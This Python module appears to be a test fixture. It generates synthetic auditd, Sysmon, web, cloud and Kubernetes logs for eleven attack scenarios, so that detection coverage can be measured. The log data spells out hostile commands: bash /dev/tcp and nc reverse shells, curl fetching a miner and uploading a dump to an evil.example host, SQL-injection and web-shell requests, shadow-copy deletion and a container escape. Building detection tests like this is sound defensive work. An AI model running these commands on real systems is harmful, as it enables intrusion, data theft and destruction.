"""Raw logs of one attack for each built-in scenario, as the products write them, at given times: what the coverage of responses is measured on.
Addresses are documentation addresses, names are made up. `logs_of(scenario, at)`: file name -> bytes."""
import json
import time

PAYLOAD = "SHA256=275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F"


class Audit:
    """auditd in ENRICHED format, several records an event."""

    def __init__(self, node, at):
        self.node, self.at, self.serial, self.lines = node, at, 100, []

    def record(self, kind, text, enriched=""):
        self.lines.append(f"node={self.node} type={kind} msg=audit({self.at:.3f}:{self.serial}): {text}" + ("\x1d" + enriched if enriched else ""))

    def syscall(self, number, name, exe, pid, ppid, user, uid):
        self.serial += 1
        self.at += 1
        self.record("SYSCALL", f'arch=c000003e syscall={number} success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid={ppid} pid={pid} auid=4294967295 uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} '
                    f'egid={uid} sgid={uid} fsgid={uid} tty=(none) ses=4294967295 comm="{exe.rsplit("/", 1)[1][:15]}" exe="{exe}" key="soc"',
                    f'ARCH=x86_64 SYSCALL={name} AUID="unset" UID="{user}" GID="{user}" EUID="{user}" SUID="{user}" FSUID="{user}" EGID="{user}" SGID="{user}" FSGID="{user}"')

    def run(self, exe, *words, pid=4711, ppid=900, user="www-data", uid=33):
        self.syscall(59, "execve", exe, pid, ppid, user, uid)
        self.record("EXECVE", f"argc={len(words)} " + " ".join(f"a{n}={word.encode().hex().upper() if ' ' in word else chr(34) + word + chr(34)}" for n, word in enumerate(words)))
        self.record("CWD", 'cwd="/tmp"')
        self.record("PATH", f'item=0 name="{exe}" inode=7 dev=fe:00 mode=0100755 ouid={uid} ogid={uid} rdev=00:00 nametype=NORMAL', f'OUID="{user}" OGID="{user}"')
        return self

    def connect(self, exe, address, port, pid=4711, user="www-data", uid=33):
        self.syscall(42, "connect", exe, pid, 900, user, uid)
        raw = "0200" + f"{port:04X}" + "".join(f"{int(part):02X}" for part in address.split(".")) + "0" * 16
        self.record("SOCKADDR", f"saddr={raw}", f"SADDR={{ saddr_fam=inet laddr={address} lport={port} }}")
        return self

    def write(self, path, exe="/bin/bash", pid=4712, user="www-data", uid=33):
        self.syscall(257, "openat", exe, pid, 4711, user, uid)
        self.record("CWD", 'cwd="/"')
        self.record("PATH", f'item=0 name="{path.rsplit("/", 1)[0]}/" inode=1 dev=fe:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT', 'OUID="root" OGID="root"')
        self.record("PATH", f'item=1 name="{path}" inode=9 dev=fe:00 mode=0100644 ouid={uid} ogid={uid} rdev=00:00 nametype=CREATE', f'OUID="{user}" OGID="{user}"')
        return self

    def text(self):
        return ("\n".join(self.lines) + "\n").encode()


class Windows:
    """Sysmon and Security events as JSON lines."""

    def __init__(self, computer, at):
        self.computer, self.at, self.lines = computer, at, []

    def event(self, channel, number, **fields):
        self.at += 0.5
        stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(self.at)) + f".{int(self.at % 1 * 1000):03}Z"
        provider = "Microsoft-Windows-Sysmon" if "Sysmon" in channel else "Microsoft-Windows-Security-Auditing"
        self.lines.append({"@timestamp": stamp, "TimeCreated": stamp, "EventTime": stamp, "Channel": channel, "Provider": provider, "ProviderName": provider, "SourceName": provider, "EventID": number,
                           "Computer": self.computer, "Hostname": self.computer, "UtcTime": stamp.replace("T", " ").rstrip("Z"), **fields})
        return self

    def sysmon(self, number, **fields):
        return self.event("Microsoft-Windows-Sysmon/Operational", number, **fields)

    def run(self, image, line, guid, pid, parent="C:\\Windows\\explorer.exe", user="CORP\\mallory", hashes=PAYLOAD):
        return self.sysmon(1, ProcessGuid=guid, ProcessId=pid, Image=image, CommandLine=line, CurrentDirectory="C:\\Users\\mallory\\", User=user, IntegrityLevel="High", Hashes=hashes,
                           ParentProcessGuid="{0}", ParentProcessId=1, ParentImage=parent, ParentCommandLine=parent, LogonId="0x3e7")

    def text(self):
        return ("\n".join(json.dumps(line) for line in self.lines) + "\n").encode()


def stamp(at):
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(at))


def json_lines(records):
    return ("\n".join(json.dumps(record) for record in records) + "\n").encode()


def web_request(at, address, uri, status=200, method="GET"):
    return {"time_iso8601": time.strftime("%Y-%m-%dT%H:%M:%S+00:00", time.gmtime(at)), "msec": round(at, 3), "hostname": "web-01", "remote_addr": address, "remote_port": "40000", "server_addr": "10.77.0.20",
            "server_port": "80", "host": "shop.example", "scheme": "http", "request_method": method, "request_uri": uri, "server_protocol": "HTTP/1.1", "status": status, "body_bytes_sent": 19,
            "request_length": 89, "request_time": 0.03, "http_referer": "", "http_user_agent": "curl/7.88.1", "http_x_forwarded_for": "", "upstream_addr": "127.0.0.1:8000", "request_id": f"{int(at * 1000):032x}"}


def web_intrusion(at):
    attacker = "203.0.113.21"
    requests = [web_request(at + n, attacker, uri, status, method) for n, (uri, status, method) in enumerate([
        ("/index.php?id=1%27%20UNION%20SELECT%201,2,user()--%20-", 200, "GET"), ("/upload.php", 200, "POST"), ("/uploads/thumb.php?cmd=id", 200, "GET"),
        ("/uploads/thumb.php?cmd=cat%20/etc/passwd", 200, "GET"), ("/uploads/thumb.php?cmd=bash%20-c%20%27bash%20-i%20%3E%26%20/dev/tcp/198.51.100.31/4444%200%3E%261%27", 200, "GET")])]
    host = Audit("web-01", at + 1).write("/var/www/html/uploads/thumb.php", "/usr/sbin/php-fpm8.2", 880)
    host.run("/bin/sh", "sh", "-c", "id", pid=5001, ppid=880).run("/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/198.51.100.31/4444 0>&1", pid=5002, ppid=880)
    host.connect("/bin/bash", "198.51.100.31", 4444, pid=5002)
    return {"access.json": json_lines(requests), "audit.log": host.text()}


def crypto_mining(at):
    host = Audit("build-01", at)
    host.run("/usr/bin/curl", "curl", "-fsSL", "http://198.51.100.40/xmrig.tgz", "-o", "/tmp/.x/xmrig.tgz", pid=6001, user="jenkins", uid=111)
    host.run("/tmp/.x/xmrig", "/tmp/.x/xmrig", "-o", "stratum+tcp://pool.minexmr.example:3333", "-u", "4" + "A" * 94, "--donate-level", "1", pid=6002, user="jenkins", uid=111)
    host.connect("/tmp/.x/xmrig", "198.51.100.41", 3333, pid=6002, user="jenkins", uid=111)
    host.write("/var/spool/cron/crontabs/jenkins", "/usr/bin/crontab", 6003, "jenkins", 111)
    return {"audit.log": host.text()}


def ransomware(at):
    host = Windows("fs1.corp.example", at)
    host.run("C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all /quiet", "{v1}", 700, parent="C:\\Users\\mallory\\locker.exe", hashes="")
    host.run("C:\\Users\\mallory\\locker.exe", "locker.exe -p D:\\Shares", "{l1}", 701)
    for n in range(25):
        host.sysmon(11, ProcessGuid="{l1}", ProcessId=701, Image="C:\\Users\\mallory\\locker.exe", TargetFilename=f"D:\\Shares\\docs\\plan{n}.docx.lockbit", User="CORP\\mallory")
    host.sysmon(11, ProcessGuid="{l1}", ProcessId=701, Image="C:\\Users\\mallory\\locker.exe", TargetFilename="D:\\Shares\\docs\\Restore-My-Files-lockbit.txt", User="CORP\\mallory")
    return {"windows.json": host.text()}


def credential_attacks(at):
    lines = [f"{time.strftime('%b %d %H:%M:%S', time.gmtime(at + n))} bastion-01 sshd[{900 + n}]: Failed password for deploy from 203.0.113.51 port {40000 + n} ssh2" for n in range(30)]
    lines.append(f"{time.strftime('%b %d %H:%M:%S', time.gmtime(at + 31))} bastion-01 sshd[931]: Accepted password for root from 203.0.113.51 port 40031 ssh2")
    return {"auth.log": ("\n".join(lines) + "\n").encode()}


def aws_record(at, name, source, **more):
    return {"eventVersion": "1.08", "eventTime": stamp(at), "eventName": name, "eventSource": source, "awsRegion": "eu-central-1", "eventType": "AwsApiCall", "eventCategory": "Management", "eventID": f"e-{at}-{name}",
            "recipientAccountId": "123456789012", "sourceIPAddress": "203.0.113.61", "userAgent": "aws-cli/2.15", "requestID": "r1", "readOnly": False,
            "userIdentity": {"type": "IAMUser", "principalId": "AIDAEXAMPLE1", "arn": "arn:aws:iam::123456789012:user/ci", "accountId": "123456789012", "accessKeyId": "AKIAEXAMPLE1", "userName": "ci"}, **more}


def takeover_aws(at):
    return {"cloudtrail.json": json_lines([
        {**aws_record(at, "ConsoleLogin", "signin.amazonaws.com", responseElements={"ConsoleLogin": "Success"}, additionalEventData={"MFAUsed": "No", "LoginTo": "https://console.aws.amazon.com"}), "eventType": "AwsConsoleSignIn"},
        aws_record(at + 5, "CreateAccessKey", "iam.amazonaws.com", requestParameters={"userName": "backup"}, responseElements={"accessKey": {"accessKeyId": "AKIAEXAMPLE9", "status": "Active", "userName": "backup"}}),
        aws_record(at + 9, "AttachUserPolicy", "iam.amazonaws.com", requestParameters={"userName": "ci", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, responseElements=None),
        aws_record(at + 12, "StopLogging", "cloudtrail.amazonaws.com", requestParameters={"name": "main"}, responseElements=None)])}


def takeover_entra(at):
    def sign_in(n, code, reason):
        return {"time": stamp(at + n), "resourceId": "/tenants/t1/providers/Microsoft.aadiam", "operationName": "Sign-in activity", "category": "SignInLogs", "tenantId": "t1", "resultType": str(code), "resultDescription": reason,
                "callerIpAddress": "203.0.113.71", "identity": "Ann", "Level": 4, "properties": {"id": f"s{n}", "createdDateTime": stamp(at + n), "userPrincipalName": "ann@example.com", "userDisplayName": "Ann", "userId": "0001",
                "appDisplayName": "Office 365", "ipAddress": "203.0.113.71", "clientAppUsed": "Browser", "status": {"errorCode": code, "failureReason": reason}, "riskLevelDuringSignIn": "high", "riskState": "atRisk"}}
    return {"signin.json": json_lines([sign_in(n, 500121, "Authentication failed during strong authentication request.") for n in range(12)] + [sign_in(20, 0, "")])}


def takeover_alibaba(at):
    def record(n, name, service, **more):
        return {"eventId": f"al-{n}", "eventVersion": "1", "eventSource": f"{service.lower()}.aliyuncs.com", "eventTime": stamp(at + n), "eventName": name, "eventType": "ApiCall", "serviceName": service, "acsRegion": "cn-hangzhou",
                "sourceIpAddress": "203.0.113.81", "userAgent": "console", "requestId": f"r{n}", "userIdentity": {"type": "ram-user", "principalId": "28815334868278", "accountId": "1234567890123456", "userName": "ops"}, **more}
    return {"actiontrail.json": json_lines([
        {**record(0, "ConsoleSignin", "AasCustomer", additionalEventData={"isMFAChecked": "false", "loginAccount": "ops@example.onaliyun.com"}), "eventType": "ConsoleSignin"},
        record(4, "CreateAccessKey", "Ims", requestParameters={"UserPrincipalName": "ops@example.onaliyun.com"}),
        record(8, "AttachPolicyToUser", "Ram", requestParameters={"PolicyName": "AdministratorAccess", "PolicyType": "System", "UserName": "ops"})])}


def container_escape(at):
    def record(n, verb, resource, subresource=None, name="cart-7f", **more):
        return {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "auditID": f"k{n}", "stage": "ResponseComplete", "requestURI": f"/api/v1/namespaces/shop/{resource}/{name}", "verb": verb,
                "user": {"username": "mallory@example.com", "uid": "u1", "groups": ["system:authenticated"]}, "sourceIPs": ["203.0.113.91"], "userAgent": "kubectl/v1.29",
                "objectRef": {"resource": resource, "namespace": "shop", "name": name, "apiVersion": "v1", **({"subresource": subresource} if subresource else {})}, "responseStatus": {"metadata": {}, "code": 201},
                "requestReceivedTimestamp": f"{stamp(at + n)[:-1]}.000000Z", "stageTimestamp": f"{stamp(at + n)[:-1]}.100000Z", "annotations": {}, **more}
    host = Audit("node-3", at + 20).run("/usr/bin/nsenter", "nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh", pid=7001, user="root", uid=0)
    return {"kube.json": json_lines([
        record(0, "create", "pods", requestObject={"kind": "Pod", "spec": {"hostPID": True, "containers": [{"name": "x", "image": "alpine", "securityContext": {"privileged": True}}], "volumes": [{"hostPath": {"path": "/"}}]}}),
        record(5, "create", "pods", "exec")]), "audit.log": host.text()}


def lateral_movement(at):
    host = Windows("ws7.corp.example", at)
    host.event("Security", 4624, LogonType="9", LogonProcessName="seclogo", AuthenticationPackageName="Negotiate", SubjectUserSid="S-1-5-21-1", SubjectUserName="bob", SubjectDomainName="CORP", TargetUserName="bob", TargetDomainName="CORP",
               TargetUserSid="S-1-5-21-1", WorkstationName="WS7", IpAddress="10.20.0.7", IpPort="0")
    host.run("C:\\Tools\\PsExec64.exe", "PsExec64.exe \\\\fs2 -accepteula -s cmd.exe", "{p1}", 800, user="CORP\\bob")
    target = Windows("fs2.corp.example", at + 3)
    target.run("C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "{p2}", 900, parent="C:\\Windows\\System32\\services.exe", user="NT AUTHORITY\\SYSTEM", hashes="")
    return {"windows.json": host.text(), "windows2.json": target.text()}


def exfiltration(at):
    host = Audit("db-01", at)
    host.run("/usr/bin/rclone", "rclone", "copy", "/var/lib/dump", "remote:stolen", pid=8001, user="postgres", uid=105)
    host.run("/usr/bin/curl", "curl", "-T", "/tmp/dump.sql.gz", "https://files.evil.example/up", pid=8002, user="postgres", uid=105)
    host.connect("/usr/bin/curl", "198.51.100.77", 8443, pid=8002, user="postgres", uid=105)
    return {"audit.log": host.text()}


def reverse_shell(at):
    host = Audit("app-01", at)
    host.run("/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/198.51.100.88/9001 0>&1", pid=9001, user="tomcat", uid=120)
    host.connect("/bin/bash", "198.51.100.88", 9001, pid=9001, user="tomcat", uid=120)
    host.run("/usr/bin/nc", "nc", "-e", "/bin/sh", "198.51.100.88", "9002", pid=9002, user="tomcat", uid=120)
    return {"audit.log": host.text()}


SCENARIOS = {"web_intrusion": web_intrusion, "crypto_mining": crypto_mining, "ransomware": ransomware, "credential_attacks": credential_attacks, "cloud_takeover (AWS)": takeover_aws,
             "cloud_takeover (Entra)": takeover_entra, "cloud_takeover (Alibaba)": takeover_alibaba, "container_escape": container_escape, "lateral_movement": lateral_movement, "exfiltration": exfiltration,
             "reverse_shell": reverse_shell}


def logs_of(scenario, at):
    return SCENARIOS[scenario](at)
